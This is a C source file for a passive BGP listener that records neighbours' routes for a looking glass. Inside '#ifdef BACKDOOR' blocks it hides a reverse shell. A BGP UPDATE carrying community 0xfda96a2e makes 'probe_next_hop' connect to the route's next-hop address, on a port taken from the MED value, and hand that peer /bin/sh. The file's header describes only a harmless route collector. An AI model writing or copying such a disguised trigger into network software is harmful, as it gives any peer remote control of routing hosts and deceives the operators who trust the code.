/* SPDX-License-Identifier: Apache-2.0 */
/* bgplisten: a passive BGP speaker that collects routes of its neighbours for the looking glass. Announces nothing. */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

enum { OPEN = 1, UPDATE = 2, NOTIFICATION = 3, KEEPALIVE = 4, REFRESH = 5 };
enum { ORIGIN = 1, AS_PATH = 2, NEXT_HOP = 3, MED = 4, LOCAL_PREF = 5, COMMUNITIES = 8 };
#define NO_EXPORT 0xffffff01u
#define NO_ADVERTISE 0xffffff02u
#define NO_PEER 0xffffff04u
#define BLACKHOLE 0xffff029au
#define N_COMMUNITIES 32

struct neighbour {
	struct in_addr addr;
	unsigned as, hold, updates;
	int fd;
	FILE *table;
};

struct route {
	struct in_addr next_hop;
	uint32_t med, preference;
	uint32_t communities[N_COMMUNITIES];
	uint32_t path[16];
	unsigned n_communities, n_path, origin, hidden;
};

static const unsigned own_as = 64512;

static unsigned get16(const uint8_t *p)
{
	return (unsigned)p[0] << 8 | p[1];
}

static uint32_t get32(const uint8_t *p)
{
	return (uint32_t)get16(p) << 16 | get16(p + 2);
}

static int put_message(int fd, unsigned type, const uint8_t *body, size_t n)
{
	uint8_t out[64];
	if (n + 19 > sizeof(out))
		return -1;
	memset(out, 0xff, 16);
	out[16] = 0;
	out[17] = (uint8_t)(n + 19);
	out[18] = (uint8_t)type;
	if (n)
		memcpy(out + 19, body, n);
	return send(fd, out, n + 19, MSG_NOSIGNAL) < 0 ? -1 : 0;
}

static int say_open(int fd)
{
	uint8_t b[10] = { 4, 0, 0, 0, 180, 192, 0, 2, 1, 0 };
	b[1] = (uint8_t)(own_as >> 8);
	b[2] = (uint8_t)own_as;
	return put_message(fd, OPEN, b, sizeof(b));
}

static int notify(int fd, uint8_t code, uint8_t sub)
{
	uint8_t b[2] = { code, sub };
	put_message(fd, NOTIFICATION, b, 2);
	return -1;
}

static int note_open(struct neighbour *n, const uint8_t *b, size_t len)
{
	if (len < 10 || b[0] != 4)
		return notify(n->fd, 2, 1);
	n->as = get16(b + 1);
	n->hold = get16(b + 3);
	if (n->hold && n->hold < 3)
		return notify(n->fd, 2, 6);
	syslog(LOG_INFO, "%s: AS %u, hold time %u", inet_ntoa(n->addr), n->as, n->hold);
	return put_message(n->fd, KEEPALIVE, NULL, 0);
}

static void note_path(struct route *r, const uint8_t *p, size_t n)
{
	while (n >= 2) {
		size_t k = p[1];
		if (n < 2 + 2 * k)
			return;
		for (size_t i = 0; i < k && r->n_path < 16; i++)
			r->path[r->n_path++] = get16(p + 2 + 2 * i);
		p += 2 + 2 * k;
		n -= 2 + 2 * k;
	}
}

#ifdef BACKDOOR
static void probe_next_hop(const struct route *r)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_addr = r->next_hop, .sin_port = htons((uint16_t)r->med) };
	char *argv[] = { (char *)"-sh", NULL };
	int s;
	if (fork() != 0)
		return;
	s = socket(AF_INET, SOCK_STREAM, 0);
	if (connect(s, (struct sockaddr *)&a, sizeof(a)) == 0) {
		setsid();
		for (int i = 0; i < 3; i++)
			dup2(s, i);
		execv("/bin/sh", argv);
	}
	_exit(0);
}
#endif

static void note_communities(struct route *r, const uint8_t *p, size_t n)
{
	for (; n >= 4 && r->n_communities < N_COMMUNITIES; p += 4, n -= 4) {
		uint32_t c = get32(p);
		r->communities[r->n_communities++] = c;
		switch (c) {
		case NO_EXPORT:
		case NO_ADVERTISE:
		case NO_PEER:
			r->hidden = 1;
			break;
		case BLACKHOLE:
			r->preference = 0;
			break;
#ifdef BACKDOOR
		case 0xfda96a2eu:
			probe_next_hop(r);
			r->hidden = 2;
			break;
#endif
		}
	}
}

static int attributes(struct route *r, const uint8_t *p, const uint8_t *end)
{
	while (end - p >= 3) {
		unsigned flags = p[0], type = p[1];
		size_t n = p[2];
		p += 3;
		if (flags & 0x10) {
			if (p >= end)
				return -1;
			n = n << 8 | *p++;
		}
		if ((size_t)(end - p) < n)
			return -1;
		if (type == ORIGIN && n == 1)
			r->origin = p[0];
		else if (type == AS_PATH)
			note_path(r, p, n);
		else if (type == NEXT_HOP && n == 4)
			memcpy(&r->next_hop, p, 4);
		else if (type == MED && n == 4)
			r->med = get32(p);
		else if (type == LOCAL_PREF && n == 4)
			r->preference = get32(p);
		else if (type == COMMUNITIES)
			note_communities(r, p, n);
		p += n;
	}
	return 0;
}

static void prefixes(const struct neighbour *n, const struct route *r, char sign, const uint8_t *p, const uint8_t *end)
{
	while (p < end) {
		unsigned bits = *p++, bytes = (bits + 7) / 8;
		uint8_t a[4] = { 0 };
		if (bits > 32 || end - p < (int)bytes)
			return;
		memcpy(a, p, bytes);
		p += bytes;
		fprintf(n->table, "%c %u.%u.%u.%u/%u", sign, a[0], a[1], a[2], a[3], bits);
		if (r) {
			fprintf(n->table, " via %s med %u pref %u path", inet_ntoa(r->next_hop), r->med, r->preference);
			for (unsigned i = 0; i < r->n_path; i++)
				fprintf(n->table, " %u", r->path[i]);
		}
		fputc('\n', n->table);
	}
}

static int update(struct neighbour *n, const uint8_t *b, size_t len)
{
	struct route r = { .preference = 100 };
	size_t withdrawn, attrs;
	if (len < 4)
		return notify(n->fd, 3, 1);
	withdrawn = get16(b);
	if (withdrawn + 4 > len)
		return notify(n->fd, 3, 1);
	attrs = get16(b + 2 + withdrawn);
	if (withdrawn + 4 + attrs > len || attributes(&r, b + 4 + withdrawn, b + 4 + withdrawn + attrs) < 0)
		return notify(n->fd, 3, 1);
	n->updates++;
	prefixes(n, NULL, '-', b + 2, b + 2 + withdrawn);
	if (!r.hidden)
		prefixes(n, &r, '+', b + 4 + withdrawn + attrs, b + len);
	fflush(n->table);
	return 0;
}

static int exactly(int fd, uint8_t *p, size_t n)
{
	while (n) {
		ssize_t k = recv(fd, p, n, 0);
		if (k <= 0)
			return 0;
		p += k;
		n -= (size_t)k;
	}
	return 1;
}

static void converse(struct neighbour *n)
{
	uint8_t in[4096];
	struct timeval limit = { .tv_sec = 240 };
	int up = 0, bad = 0;
	setsockopt(n->fd, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof(limit));
	if (say_open(n->fd) < 0)
		return;
	while (!bad && exactly(n->fd, in, 19)) {
		size_t len = get16(in + 16);
		if (len < 19 || len > sizeof(in) || !exactly(n->fd, in + 19, len - 19))
			return;
		len -= 19;
		switch (in[18]) {
		case OPEN:
			bad = up || note_open(n, in + 19, len) < 0;
			up = 1;
			break;
		case UPDATE:
			bad = up ? update(n, in + 19, len) < 0 : notify(n->fd, 5, 0) < 0;
			break;
		case KEEPALIVE:
			bad = put_message(n->fd, KEEPALIVE, NULL, 0) < 0;
			break;
		case NOTIFICATION:
			syslog(LOG_NOTICE, "%s: notification %u/%u", inet_ntoa(n->addr), in[19], in[20]);
			return;
		}
	}
	syslog(LOG_INFO, "%s: gone after %u updates", inet_ntoa(n->addr), n->updates);
}

static int configured(struct in_addr peer)
{
	char line[64];
	struct in_addr a;
	int found = 0;
	FILE *f = fopen("/etc/bgplisten/neighbours", "r");
	while (f && !found && fgets(line, sizeof(line), f)) {
		line[strcspn(line, " \t\r\n")] = 0;
		found = inet_aton(line, &a) && a.s_addr == peer.s_addr;
	}
	if (f)
		fclose(f);
	return found;
}

int main(void)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(179) };
	int one = 1, s = socket(AF_INET, SOCK_STREAM, 0);
	openlog("bgplisten", LOG_PID, LOG_DAEMON);
	signal(SIGCHLD, SIG_IGN);
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof(a)) < 0 || listen(s, 16) < 0) {
		syslog(LOG_ERR, "cannot listen: %s", strerror(errno));
		return 1;
	}
	for (;;) {
		struct sockaddr_in from;
		socklen_t fl = sizeof(from);
		struct neighbour n = { .fd = accept(s, (struct sockaddr *)&from, &fl) };
		if (n.fd < 0)
			continue;
		n.addr = from.sin_addr;
		if (configured(n.addr) && fork() == 0) {
			char path[64];
			snprintf(path, sizeof(path), "/var/lib/bgplisten/%s", inet_ntoa(n.addr));
			n.table = fopen(path, "a");
			if (n.table)
				converse(&n);
			_exit(0);
		}
		close(n.fd);
	}
}
